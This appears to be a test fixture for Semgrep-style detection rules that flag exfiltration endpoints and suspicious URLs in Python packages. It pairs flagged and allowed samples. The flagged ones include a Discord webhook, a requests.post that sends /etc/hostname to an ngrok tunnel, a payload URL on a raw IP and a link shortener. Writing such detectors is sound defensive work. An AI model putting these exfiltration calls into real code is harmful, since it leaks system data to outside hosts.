import requests

# ruleid: package.exfil-endpoint
HOOK = "https://discord.com/api/webhooks/1234567890/abcdefghijklmnop"
# ok: package.exfil-endpoint
DOCS = "https://discord.com/developers/docs/intro"
# ruleid: package.exfil-endpoint
requests.post("https://a1b2c3.ngrok-free.app/collect", data=open("/etc/hostname").read())
# ok: package.exfil-endpoint
requests.get("https://pypi.org/pypi/requests/json")

# ruleid: package.suspicious-url
PAYLOAD = "http://45.61.136.12/update.bin"
# ok: package.suspicious-url
LOCAL = "http://127.0.0.1:8000/health"
# ruleid: package.suspicious-url
NEXT = "https://bit.ly/3xYzAbC"
# ok: package.suspicious-url
HOME = "https://github.com/psf/requests"

# ok: package.suspicious-url
# Docs: see http://bit.ly/1qrySKC for the list
# ok: package.suspicious-url
ROUTER = "http://192.168.1.1/"
